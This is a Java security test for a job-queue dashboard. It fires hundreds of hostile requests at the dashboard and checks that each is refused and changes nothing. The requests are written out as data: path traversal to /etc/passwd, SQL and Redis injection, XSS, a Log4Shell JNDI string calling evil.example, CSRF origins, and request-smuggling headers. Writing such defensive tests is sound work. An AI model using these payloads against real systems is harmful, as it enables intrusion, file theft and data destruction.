package dev.jono.dashboard;

import static org.assertj.core.api.Assertions.assertThat;

import dev.jono.dashboard.RawHttp.Reply;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Some hundreds of requests that must be refused with a reason, change nothing, and learn nothing. */
class HostileRequestsTest extends DashboardCase {
    private static final String JSON = "application/json";
    private static final String FORM = "application/x-www-form-urlencoded";

    private record Hostile(String method, String target, Map<String, String> headers, String body) {
        @Override
        public String toString() {
            return method + " " + target + " " + headers + " " + body.substring(0, Math.min(80, body.length()));
        }
    }

    private final List<Hostile> requests = new ArrayList<>();

    private void add(String method, String path, Map<String, String> headers, String body) {
        requests.add(new Hostile(method, "/app/jono" + path, headers, body));
    }

    private void get(String path) {
        add("GET", path, Map.of(), "");
    }

    private static final List<String> CHANGES = List.of(
            "/queues/orders/pause",
            "/queues/orders/resume",
            "/queues/orders/purge",
            "/queues/orders/redrive",
            "/queues/orders/push",
            "/jobs/enqueue",
            "/jobs/change?type=resize",
            "/types/resize/pause",
            "/types/resize/resume",
            "/schedules/nightly/run",
            "/schedules/nightly/pause",
            "/schedules/nightly/remove",
            "/api/v1/queues/orders/purge",
            "/api/v1/queues/orders/redrive",
            "/api/v1/queues/orders/messages",
            "/api/v1/jobs",
            "/api/v1/jobs/actions/retry",
            "/api/v1/jobs/actions/cancel",
            "/api/v1/jobs/actions/remove",
            "/api/v1/schedules/nightly/run");

    private void traversal() {
        List<String> tricks = List.of(
                "../etc/passwd",
                "..%2f..%2fetc%2fpasswd",
                "%2e%2e/%2e%2e/etc/passwd",
                "%252e%252e%252fetc%252fpasswd",
                "..%5c..%5cwindows%5cwin.ini",
                "..\\..\\windows\\win.ini",
                "....//....//etc/passwd",
                "%c0%ae%c0%ae/etc/passwd",
                "..%c0%af..%c0%afetc/passwd",
                "%00",
                "dashboard.css%00.png",
                "..;/..;/etc/passwd",
                "%uff0e%uff0e/etc/passwd",
                "%",
                "%zz",
                "%2",
                "META-INF/MANIFEST.MF",
                "..%2fdev%2fjono%2fdashboard%2fDashboard.class",
                "file:%2f%2f%2fetc%2fpasswd",
                "%0d%0aSet-Cookie:%20a=b");
        for (String place : List.of(
                "/assets/", "/queues/", "/api/v1/queues/", "/jobs/", "/api/v1/jobs/", "/api/v1/schedules/", "/")) {
            tricks.forEach(trick -> get(place + trick));
        }
    }

    private void injection() {
        List<String> tricks = List.of(
                "'%20OR%20'1'='1",
                "orders';DROP%20TABLE%20message;--",
                "%22%7D,%7B%22$where%22:%221%22",
                "orders%0aFLUSHALL%0a",
                "orders%20FLUSHALL",
                "*",
                "orders*",
                "%3Cscript%3Ealert(1)%3C/script%3E",
                "$%7Bjndi:ldap://evil.example/a%7D",
                "%7B%7B7*7%7D%7D",
                "orders%E2%80%AE",
                "x".repeat(300));
        for (String trick : tricks) {
            get("/queues/" + trick);
            get("/api/v1/queues/" + trick);
            get("/api/v1/queues/" + trick + "/messages");
            get("/api/v1/queues/orders/messages/" + trick);
            get("/queues/orders/messages/" + trick);
            get("/jobs/" + trick);
            get("/api/v1/jobs/" + trick + "/log");
            get("/api/v1/queues/orders/messages?state=" + trick);
            get("/api/v1/jobs?type=resize&state=" + trick);
            get("/api/v1/jobs?type=resize&after=" + trick);
            get("/api/v1/queues?limit=" + trick);
            get("/queues?storage=" + trick);
            add("POST", "/api/v1/jobs/actions/" + trick, Map.of("Content-Type", JSON), "{\"ids\": [\"a:b\"]}");
        }
    }

    private void bodies() {
        List<String> broken = List.of(
                "",
                "{",
                "}",
                "[1,",
                "{\"payload\":}",
                "{\"payload\": 1} x",
                "{\"payload\": 1, \"payload\": 2}",
                "{'payload': 1}",
                "{\"payload\": NaN}",
                "{\"payload\": \"\u0001\"}",
                "null",
                "7",
                "\"text\"",
                "[[[[",
                "[".repeat(5_000),
                "{\"a\":".repeat(5_000),
                "{\"payload\": 1, \"delay\": \"-1s\"}",
                "{\"payload\": 1, \"delay\": \"99999999999999d\"}",
                "{\"payload\": 1, \"dueAt\": \"yesterday\"}",
                "{\"payload\": 1, \"headers\": {\"x-dl-reason\": \"a\"}}",
                "{\"payload\": 1, \"headers\": {\"a b\": \"c\"}}",
                "{\"payload\": 1, \"kind\": \"exe\"}",
                "{\"payload\": 1, \"__proto__\": {}}",
                "{\"payload\": \"" + "x".repeat(2_000_000) + "\"}",
                "{\"payload\": \"" + "x".repeat(9_000_000) + "\"}");
        for (String body : broken) {
            add("POST", "/api/v1/queues/orders/messages", Map.of("Content-Type", JSON), body);
        }
        for (String body : broken.subList(0, 16)) {
            add("POST", "/api/v1/jobs", Map.of("Content-Type", JSON), body);
            add("POST", "/api/v1/jobs/actions/cancel", Map.of("Content-Type", JSON), body);
            add("PUT", "/api/v1/schedules/nightly", Map.of("Content-Type", JSON), body);
            add("PUT", "/api/v1/queues/orders/paused", Map.of("Content-Type", JSON), body);
        }
        for (String type : List.of("text/plain", "", "application/xml", "multipart/form-data", FORM, "text/json")) {
            Map<String, String> headers = type.isEmpty() ? Map.of() : Map.of("Content-Type", type);
            add("POST", "/api/v1/queues/orders/messages", headers, "{\"payload\": 1}");
            add("POST", "/api/v1/jobs", headers, "{\"type\": \"resize\", \"payload\": 1}");
            add("PUT", "/api/v1/queues/orders/paused", headers, "true");
        }
        add("POST", "/queues/orders/push", Map.of("Content-Type", JSON), "{\"payload\": 1}");
        add("POST", "/queues/orders/push", Map.of("Content-Type", FORM), "kind=json");
        add("POST", "/queues/orders/push", Map.of("Content-Type", FORM), "payload=%zz");
        add("POST", "/queues/orders/push", Map.of("Content-Type", FORM), "payload=%ff");
        add("POST", "/queues/orders/push", Map.of("Content-Type", FORM), "payload={&kind=json");
        add("POST", "/queues/%3Cb%3E/push", Map.of("Content-Type", FORM), "payload=1&kind=json");
    }

    private void methods() {
        for (String change : CHANGES) {
            if (!change.equals("/api/v1/queues/orders/messages") && !change.equals("/api/v1/jobs")) {
                get(change);
            }
            for (String method : List.of("PATCH", "TRACE", "CONNECT", "PROPFIND", "OPTIONS")) {
                add(method, change, Map.of(), "");
            }
        }
        for (String page : List.of("/", "/queues", "/queues/orders", "/jobs", "/schedules", "/assets/dashboard.css")) {
            for (String method : List.of("POST", "PUT", "DELETE", "PATCH")) {
                add(method, page, Map.of("Content-Type", FORM), "");
            }
        }
    }

    private void otherSites() {
        for (String change : CHANGES) {
            for (String site : List.of("cross-site", "same-site", "evil")) {
                add("POST", change, Map.of("Sec-Fetch-Site", site, "Content-Type", FORM), "payload=1&kind=json");
            }
            add("POST", change, Map.of("Origin", "https://evil.example", "Content-Type", JSON), "{\"payload\": 1}");
            add("POST", change, Map.of("Origin", "null", "Content-Type", FORM), "payload=1&kind=json");
        }
    }

    private void headers() {
        Map<String, String> twice = new LinkedHashMap<>();
        twice.put("Content-Length", "5\r\nContent-Length: 6");
        twice.put("Content-Type", JSON);
        add("POST", "/api/v1/queues/orders/messages", twice, "hello");
        Map<String, String> both = new LinkedHashMap<>();
        both.put("Content-Length", "5");
        both.put("Transfer-Encoding", "chunked");
        add("POST", "/api/v1/queues/orders/messages", both, "0\r\n\r\n");
        add("GET", "/", Map.of("Host", ""), "");
        add("GET", "/", Map.of("X-Large", "x".repeat(100_000)), "");
        add("POST", "/queues/orders/purge", Map.of("Origin", "http://evil.example", "X-Forwarded-Proto", "http"), "");
        add("GET", "/api/v1/queues?" + "a".repeat(9_000), Map.of(), "");
        add("GET", "/a/b/c/d/e/f/g/h/i/j", Map.of(), "");
    }

    @Test
    void hostileRequestsAreRefusedAndChangeNothing() {
        raw("orders").push(jsonPayload("1"));
        jobs.enqueue(RESIZE, "x");
        jobs.schedule("nightly", "0 2 * * *", ZoneOffset.UTC, RESIZE, "x");
        traversal();
        injection();
        bodies();
        methods();
        otherSites();
        headers();
        assertThat(requests).hasSizeGreaterThan(500);
        for (Hostile request : requests) {
            Reply reply = RawHttp.send(site.port(), request.method, request.target, request.headers, request.body);
            assertThat(reply.status()).as("%s → %s", request, reply.text()).isBetween(400, 499);
            assertThat(reply.text())
                    .as(request.toString())
                    .doesNotContain("Exception", "dev.jono", "\tat ", "root:", folder.toString(), "\r\nSet-Cookie")
                    .satisfies(text -> assertThat(text.contains("text/html") && text.contains("<script>alert"))
                            .as("a script on a page")
                            .isFalse());
        }
        assertThat(raw("orders").counts().ready()).isEqualTo(1);
        assertThat(raw("orders").isPaused()).isFalse();
        assertThat(jobs.counts("resize").values()).containsExactly(1L);
        assertThat(jobs.isPaused("resize")).isFalse();
        assertThat(jobs.schedules()).hasSize(1);
        assertThat(jono.queues()).containsExactly("orders", "{jobs:resize}:normal");
        assertThat(site.get("/").statusCode()).as("afterwards").isEqualTo(200);
    }

    /** Methods in headers and parameters are not looked at. */
    @Test
    void methodCannotBeOverridden() {
        raw("orders").push(jsonPayload("1"));
        for (String header : List.of("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")) {
            site.send("GET", "/api/v1/queues/orders?_method=DELETE", "", "", header, "DELETE");
        }
        assertThat(raw("orders").counts().ready()).isEqualTo(1);
    }
}
